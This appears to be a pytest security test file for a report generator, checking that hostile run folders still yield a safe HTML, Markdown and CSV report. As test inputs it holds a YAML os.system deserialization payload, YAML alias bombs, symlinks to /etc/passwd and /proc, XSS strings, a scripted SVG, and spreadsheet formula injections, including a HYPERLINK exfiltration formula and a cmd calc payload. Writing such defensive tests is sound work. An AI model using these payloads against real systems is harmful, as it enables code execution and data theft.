"""A report over a stranger's folder: a page always comes, it shows no other file, and it runs no code."""

from __future__ import annotations

import csv
import html
import io
import json
import os
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import pytest
import yaml
from PIL import Image

from balanced_thinking.report import build, write_report
from balanced_thinking.report.compare.images import embed_image
from balanced_thinking.report.write.markdown import escape_markdown
from balanced_thinking.runs import evaluations, files
from balanced_thinking.runs.find import list_folders
from balanced_thinking.system.spreadsheets import disarm_formula, rearm_formula
from tests.faults.attacks.attack import run_balanced, watch_attack
from tests.report.helpers import SCRIPT, Page, check_only_script
from tests.report.synthetic import write_evaluation, write_run

DEEP = "[" * 100_000
BOMB = "a0: &a0 [x, x]\n" + "".join(f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}]\n" for i in range(1, 40))


@pytest.fixture
def runs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A sound run and one to attack. Nothing is drawn, which takes most of a report's time."""
    for name, nothing in (("draw_curves", []), ("draw_forest", None), ("draw_times", None)):
        monkeypatch.setattr(build, name, lambda *_, nothing=nothing, **__: nothing)
    write_run(tmp_path / "runs/sound/seed-0", [True, False])
    write_run(tmp_path / "runs/bad/seed-0", [True, False])
    return tmp_path / "runs"


def page_of(runs: Path) -> str:
    """The page; with its Markdown and CSV files beside it."""
    with watch_attack(runs, memory_mib=400):
        return write_report(runs, runs / "report.html", runs / "report.md").read_text(encoding="utf-8")


def write(name: str, text: str | bytes) -> Callable[[Path], object]:
    return lambda run: (run / name).write_bytes(text if isinstance(text, bytes) else text.encode())


def link(name: str, target: str) -> Callable[[Path], object]:
    def make(run: Path) -> None:
        (run / name).unlink(missing_ok=True)
        (run / name).symlink_to(target)

    return make


def predict(**fields: Any) -> Callable[[Path], object]:
    """A prediction with these fields, beside a sound one."""
    sound = {"id": "item-0", "correct": True, "completion": "<think>a</think><answer>b</answer>"}
    rows = [sound, {"id": "item-1", "correct": False} | fields]
    return write(PREDICTIONS, "".join(f"{json.dumps(row)}\n" for row in rows))


def summarize(**fields: Any) -> Callable[[Path], object]:
    return write("eval/world-test/summary.json", json.dumps({"n": 2, "correct": 1} | fields))


def both(*attacks: Callable[[Path], object]) -> Callable[[Path], object]:
    return lambda run: [attack(run) for attack in attacks]


PREDICTIONS = "eval/world-test/predictions.jsonl"
GOOD = '{"id": "item-0", "correct": true}\n'
ATTACKS: list[tuple[str, Callable[[Path], object], str]] = [
    # (what is wrong, how, what the page says)
    ("half a character", predict(completion="\ud800", question="\udfff"), "\ufffd"),
    ("a line that is no JSON", write(PREDICTIONS, f"{GOOD}{{\n{GOOD}"), "1 lines are not JSON objects"),
    ("its number", write(PREDICTIONS, f"{GOOD}{{\n{GOOD}"), "(first: line 2)"),
    ("a row that is nested deeply", write(PREDICTIONS, f"{GOOD}{DEEP}\n"), "(first: line 2)"),
    ("a row of bytes", write(PREDICTIONS, GOOD.encode() + b"\xff\xfe\x00\n"), "(first: line 2)"),
    ("a row that is a list", write(PREDICTIONS, f"{GOOD}[1]\n"), "(first: line 2)"),
    ("a number of 5,000 digits", write(PREDICTIONS, f'{GOOD}{{"id": {"9" * 5000}}}\n'), "(first: line 2)"),
    ("an id that is a number", predict(id=5), "1 rows without an id or a verdict"),
    ("a verdict that is a text", predict(correct="yes"), "(first: line 2)"),
    ("a score that is not a number", predict(score=float("nan")), "1 rows without"),
    ("tokens without an end", predict(think_tokens=10**400), "1 rows without"),
    ("pictures that are numbers", predict(images=[5]), "1 rows without"),
    ("options that are lists", predict(choices=[["a"]]), "1 rows without"),
    ("problems that are mappings", predict(problems=[{"a": 1}]), "1 rows without"),
    ("an id of megabytes", predict(id="x" * 1_000_000), "1 rows without"),
    ("a row of a later version", predict(schema=99), "1 rows without"),
    ("a version that is a list", predict(schema=[2]), "1 rows without"),
    ("an answer of megabytes", predict(gold="a" * 2_000_000, completion="a" * 2_000_000), "characters ...]"),
    ("100,000 options", predict(choices=["x"] * 100_000), "and 99950 more"),
    ("100,000 tags", predict(completion="<answer>" * 100_000), "characters ...]"),
    ("a summary that is no JSON", write("eval/world-test/summary.json", "{"), "summary.json cannot be read"),
    ("a summary that is nested", write("eval/world-test/summary.json", DEEP), "summary.json cannot be read"),
    ("a summary that is a list", write("eval/world-test/summary.json", "[]"), "holds list; expected a mapping"),
    ("counts that are texts", summarize(n="2"), "it is not used"),
    ("counts that are negative", summarize(n=-1), "it is not used"),
    ("more malformed than there are", summarize(malformed=10**15), "it is not used"),
    ("counts without an end", summarize(n=10**400), "it is not used"),
    ("no number", summarize(accuracy=float("nan")), "it is not used"),
    ("a summary of a later version", summarize(schema=99), "is left out"),
    ("no predictions", link(PREDICTIONS, "/nowhere"), "predictions.jsonl is missing"),
    ("predictions in a circle", link(PREDICTIONS, "predictions.jsonl"), "predictions.jsonl is missing"),
    ("a link to a file of the machine", link("config.yaml", "/proc/self/status"), "leads out of its folder"),
    ("a configuration that grows", write("config.yaml", BOMB), "with those that aliases stand for"),
    ("a configuration in a circle", write("config.yaml", "a: &a [*a]"), "is inside of what it stands for"),
    ("a nested configuration", write("config.yaml", DEEP), "nested more than"),
    ("a configuration that builds", write("config.yaml", "!!python/object/apply:os.system [id]"), "cannot be read"),
    ("a configuration of megabytes", write("config.yaml", "a: b\n" * 300_000), "it has more than 1 MiB"),
    ("a configuration of keys", write("config.yaml", yaml.safe_dump({f"k{i}": i for i in range(3000)})), "k1000"),
    ("a provenance that is no text", write("provenance.json", b"\xff\xff"), "provenance.json cannot be read"),
    ("an arm that is a list", write("provenance.json", '{"arm": ["x"]}'), "it is not used"),
    ("steps without an end", write("metrics.jsonl", f'{{"step": 1{"0" * 400}}}\n'), "1 rows have no step"),
    ("a loss without an end", write("metrics.jsonl", '{"step": 1, "think_nll": 1e308}\n'), "sound"),
    ("metrics that are texts", write("metrics.jsonl", '{"step": 1, "think_nll": "<b>", "w_think": {}}\n'), "sound"),
    ("a plan that leads elsewhere", write("../../study.yaml", "settings: {../../etc: {}, /etc: {}}"), "sound"),
    ("a plan that grows", write("../../study.yaml", BOMB), "study.yaml cannot be read"),
    (
        "a plan of other types",
        write("../../study.yaml", "{arms: [1], settings: 5, margin: []}"),
        "margin",
    ),
    ("a ledger of other types", write("../../ledger.jsonl", '{"run": [], "part": 5}\n[]\n{\n'), "1 rows lack a run"),
]


@pytest.mark.parametrize(("attack", "said"), [row[1:] for row in ATTACKS], ids=[row[0] for row in ATTACKS])
def test_a_page_always_comes(attack: Callable[[Path], object], said: str, runs: Path) -> None:
    attack(runs / "bad/seed-0")
    text = page_of(runs)
    assert text.rstrip().endswith("</html>")
    assert said in text
    check_only_script(text)


def test_what_is_left_out_is_in_the_log_and_the_exit_code_is_0(runs: Path) -> None:
    predict(correct=None)(runs / "bad/seed-0")
    result = run_balanced(["report", runs], runs)
    assert result.code == 0
    assert "eval/world-test/predictions.jsonl: 1 rows without an id or a verdict" in result.err


def test_without_a_run_that_can_be_read_there_is_no_page(runs: Path) -> None:
    for name in ("sound", "bad"):
        summarize(schema=99)(runs / name / "seed-0")
    result = run_balanced(["report", runs], runs)
    assert result.code == 1
    assert "a newer version wrote it" in result.sentence
    assert not (runs / "report.html").exists()


def test_a_failure_leaves_the_old_page(runs: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    old = page_of(runs)

    def fail(_: Any) -> str:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("balanced_thinking.report.write.files.render_markdown", fail)
    with pytest.raises(OSError, match="No space"):
        page_of(runs)
    assert (runs / "report.html").read_text() == old


@pytest.mark.parametrize("name", ["report.html", ".report.html.partial", "report.md", "report.csv"])
def test_a_link_in_the_place_of_the_page_leads_nowhere(name: str, runs: Path, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("mine")
    (runs / name).symlink_to(victim)
    page_of(runs)
    assert victim.read_text() == "mine"


def test_html_and_scripts_are_text_in_every_field(runs: Path, tmp_path: Path) -> None:
    evil = f'"><img src=x onerror=alert(1)>{SCRIPT}javascript:'.replace("/", "\N{DIVISION SLASH}")
    row = {"id": evil, "correct": False, "question": evil, "gold": evil, "prediction": evil, "completion": evil}
    row |= {"family": evil, "choices": [evil], "problems": [evil], "images": [evil], "malformed": False}
    folder = runs / evil / "seed-0"
    write_evaluation(folder / "eval" / evil, [row | {"truncated": False}], data=evil)
    (folder / "config.yaml").write_text(yaml.safe_dump({evil: evil, "stage": evil, "model": evil, "data": evil}))
    (folder / "provenance.json").write_text(json.dumps({"model": evil, "device": evil, "command": evil}))
    text = page_of(runs)
    check_only_script(text)
    page = Page(text)
    assert not page.values("onerror")
    assert all(source.startswith("data:image/") for source in page.values("src"))
    assert "default-src 'none'; img-src data:;" in html.unescape(text)
    for line in (runs / "report.md").read_text().splitlines():
        assert "<script" not in line
        assert "<img" not in line


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PICTURES: list[tuple[str, str, bool]] = [
    # (a picture's name in a prediction, how it is made, whether it counts as outside)
    ("{outside}/secret.png", "an absolute path", True),
    ("../../../../secret.png", "a relative one", True),
    ("images/../../../../../secret.png", "one in between", True),
    ("images/linked.png", "a link", True),
    ("images/folder/secret.png", "a link to a folder", True),
    ("images/circle.png", "a circle of links", True),
    ("https://192.0.2.1/a.png", "a web address", False),
    ("file:///etc/passwd", "an address of a file", False),
    ("data:image/svg+xml;base64,PHN2Zz4=", "data", False),
    ("images/evil.svg", "SVG with a script", False),
    ("images/evil.png", "SVG named PNG", False),
    ("images/page.png", "EPS named PNG", False),
    ("images/pipe.png", "a pipe, which would block", False),
    ("images/\0.png", "no name at all", True),
    ("images/" + "x" * 5000 + ".png", "a name that is too long", False),
]


@pytest.mark.parametrize(("name", "outside"), [(row[0], row[2]) for row in PICTURES], ids=[row[1] for row in PICTURES])
def test_a_picture_that_is_not_the_run_s_own_is_left_out(name: str, outside: bool, runs: Path, tmp_path: Path) -> None:
    Image.new("RGB", (8, 8), "red").save(tmp_path / "secret.png")
    images = runs / "bad/seed-0/eval/world-test/images"
    images.mkdir()
    (images / "linked.png").symlink_to(tmp_path / "secret.png")
    (images / "folder").symlink_to(tmp_path)
    (images / "circle.png").symlink_to(images / "circle.png")
    (images / "evil.svg").write_bytes(SVG)
    (images / "evil.png").write_bytes(SVG)
    (images / "page.png").write_bytes(b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file")
    os.mkfifo(images / "pipe.png")
    for arm in ("sound", "bad"):
        predict(images=[name.format(outside=tmp_path)])(runs / arm / "seed-0")
    text = page_of(runs)
    assert "data:image" not in "".join(Page(text).values("src"))
    assert ("outside the run's folder left out" in text) == outside
    assert ("1 picture not found" in text) != outside


def test_a_picture_outside_is_shown_where_the_user_allows_it(runs: Path, tmp_path: Path) -> None:
    Image.new("RGB", (8, 8), "red").save(tmp_path / "secret.png")
    for arm in ("sound", "bad"):
        predict(images=[str(tmp_path / "secret.png")])(runs / arm / "seed-0")
    assert run_balanced(["report", runs, "--allow-outside"], runs).code == 0
    assert "data:image" in "".join(Page((runs / "report.html").read_text()).values("src"))


def test_a_huge_picture_is_not_decoded(tmp_path: Path) -> None:
    Image.new("1", (8_000, 8_000)).save(tmp_path / "bomb.png")
    with watch_attack(tmp_path, memory_mib=50):
        assert embed_image(tmp_path / "bomb.png", tmp_path) is None


def test_a_line_of_any_length_needs_bounded_memory(runs: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(files, "MOST_LINE_BYTES", 1000)
    with (runs / "bad/seed-0" / PREDICTIONS).open("wb") as file:
        file.write(GOOD.encode())
        for _ in range(100):
            file.write(b"x" * 1_000_000)
        file.write(b"\n" + GOOD.replace("item-0", "item-1").encode())
    notes: list[str] = []
    with watch_attack(runs, memory_mib=20):
        rows = list(evaluations.read_predictions(runs / "bad/seed-0/eval/world-test", notes))
    assert [row.id for row in rows] == ["item-0", "item-1"]
    assert "(first: line 2)" in notes[0]


@pytest.mark.parametrize("name", [PREDICTIONS, "config.yaml", "metrics.jsonl", "../../ledger.jsonl"])
def test_a_file_of_holes_is_left(name: str, runs: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """An archive of kilobytes unpacks to it, with terabytes that are not there."""
    monkeypatch.setattr(files, "MOST_PASSED_BYTES", 10**7 * 4)
    with (runs / "bad/seed-0" / name).open("wb") as file:
        file.truncate(2**40)
    text = page_of(runs)
    assert "a line has more than" in text or "it has more than 1 MiB" in text


def test_predictions_without_an_end_are_read_to_a_limit(runs: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(evaluations, "MOST_ROWS", 10)
    (runs / "bad/seed-0" / PREDICTIONS).write_text(GOOD * 50)
    notes: list[str] = []
    assert len(list(evaluations.read_predictions(runs / "bad/seed-0/eval/world-test", notes))) == 10
    assert "from line 11 on" in notes[0]


def test_circles_of_links_and_many_entries_are_no_hang(runs: Path) -> None:
    (runs / "sound/up").symlink_to(runs)
    (runs / "sound/seed-1").symlink_to(runs / "sound")
    (runs / "circle").symlink_to(runs / "circle")
    (runs / "bad/seed-0/eval/up").symlink_to(runs)
    for i in range(1000):
        (runs / f"file-{i}").touch()
    assert {"circle", "sound"} & {folder.name for folder in list_folders(runs)} == {"sound"}
    assert "sound" in page_of(runs)


CELLS: list[tuple[object, object]] = [
    # (a value, its cell)
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://192.0.2.1?"&A1)', '\'=HYPERLINK("http://192.0.2.1?"&A1)'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\\r=1"),
    ("\n=1", "'\n=1"),
    ("  =1", "'  =1"),
    ("\uff1d1", "'\uff1d1"),  # the wide form, which some programs read alike
    ("'=1", "''=1"),
    ("\x1b[2J", "\\x1b[2J"),  # a terminal that shows the file
    (-3.5, -3.5),  # a number is a number
    ("-3.5", "-3.5"),
    ("-1e-05", "-1e-05"),
    ("+4", "+4"),
    ("a=b", "a=b"),
    ("", ""),
    (None, None),
]


@pytest.mark.parametrize(("value", "cell"), CELLS)
def test_no_cell_is_a_formula(value: object, cell: object) -> None:
    assert disarm_formula(value) == cell
    if isinstance(value, str) and value.isprintable():
        assert rearm_formula(str(cell)) == value


def test_no_csv_of_a_report_has_a_formula(runs: Path) -> None:
    write_run(runs / "=cmd|x" / "seed-0", [True, True])
    page_of(runs)
    for name in ("report.csv", "report-contrasts.csv"):
        rows: list[Mapping[str, str]] = list(csv.DictReader(io.StringIO((runs / name).read_text())))
        cells = [cell for row in rows for cell in row.values()]
        assert cells
        assert not [cell for cell in cells if cell[:1] in ("=", "@") or cell.startswith("\t")]


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("a|b", "a\\|b"),  # another cell
        ("a\nb\r\n# c", "a b \\# c"),  # another line
        ("`rm`", "\\`rm\\`"),
        ("<b onclick=x>", "&lt;b onclick=x&gt;"),
        ("[a](javascript:b)", "\\[a\\](javascript:b)"),
        ("\x1b]0;x\x07", "\\x1b\\]0;x\\x07".replace("\\x", "\\x")),
        ("a\\", "a\\\\"),
    ],
)
def test_no_cell_of_markdown_ends_early(text: str, written: str) -> None:
    found = escape_markdown(text)
    assert not set(found) & set("\x1b\x07\n\r")
    assert found == written or "\x1b" in text
